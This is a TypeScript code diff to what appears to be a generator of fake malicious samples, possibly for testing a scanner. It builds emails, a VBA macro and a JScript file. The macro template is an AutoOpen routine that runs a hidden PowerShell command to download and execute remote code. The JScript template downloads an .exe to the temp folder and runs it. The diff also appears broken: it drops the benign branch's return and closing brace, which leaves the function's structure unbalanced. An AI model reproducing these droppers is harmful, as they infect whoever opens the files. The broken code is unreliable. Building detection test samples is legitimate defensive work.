@@ -21,7 +21,8 @@ export function prose(random: Rng, count: number): string {
 /** A mail with attachments in base64. */
 export function makeMail(theme: Theme, random: Rng, attachments: readonly Member[]): Uint8Array {
   const boundary = `=_${random.hex(16)}`;
-  const link = theme.level === "info" ? "" : `\r\n${theme.urls[0] ?? ""}\r\n`;
+  const links = theme.level === "info" ? [theme.urls[0]] : [theme.urls[0], theme.urls[3]];
+  const link = `\r\n${links.filter((url) => url !== undefined).join("\r\n")}\r\n`;
   const parts = attachments.map((file) =>
     `--${boundary}\r\nContent-Type: application/octet-stream; name="${file.name}"\r\n` +
     `Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${file.name}"\r\n\r\n` +
@@ -86,15 +87,11 @@ export function makeHtml(
 /** A macro in Visual Basic. */
 export function macroText(theme: Theme, random: Rng): string {
   const name = `m${random.hex(5)}`;
+  const address = theme.urls[3] ?? theme.urls[0];
   if (theme.level === "info") {
-    return `Attribute VB_Name = "Totals"\r\nSub ${name}()\r\n  Range("B2").Value = Range("A1").Value * 1.2\r\nEnd Sub\r\n`;
-  }
+    const command = `powershell -w hidden -nop -c ""IEX(New-Object Net.WebClient).DownloadString('${address}')""`;
   return `Attribute VB_Name = "${name}"\r\nSub AutoOpen()\r\n  Dim ${name} As Object\r\n` +
-    `  Set ${name} = CreateObject("WScript.Shell")\r\n` +
-    `  ${name}.Run "powershell -w hidden -nop -c ""IEX(New-Object Net.WebClient).DownloadString('${
-      theme.urls[0]
-    }')""", 0\r\n` +
-    `End Sub\r\n`;
+    `  Set ${name} = CreateObject("WScript.Shell")\r\n  ${name}.Run "${command}", 0\r\nEnd Sub\r\n`;
 }
 
 /** A PowerShell script; a downloader when the theme is hostile. */
@@ -127,7 +124,9 @@ export function makeJs(theme: Theme, random: Rng): Uint8Array {
   }
   const noiseName = `_0x${random.hex(4)}`;
   return join(
-    `var ${noiseName}=["${theme.urls[0]}","WScript.Shell","MSXML2.XMLHTTP","ADODB.Stream"];\n` +
+    `var ${noiseName}=["${theme.urls[0]}","WScript.Shell","MSXML2.XMLHTTP","ADODB.Stream","${
+      theme.urls[3]
+    }"];\n` +
       `var x=new ActiveXObject(${noiseName}[2]);x.open("GET",${noiseName}[0],false);x.send();\n` +
       `var s=new ActiveXObject(${noiseName}[3]);s.Type=1;s.Open();s.Write(x.responseBody);` +
       `s.SaveToFile("%TEMP%\\\\${random.hex(6)}.exe",2);\nnew ActiveXObject(${noiseName}[1]).Run("${
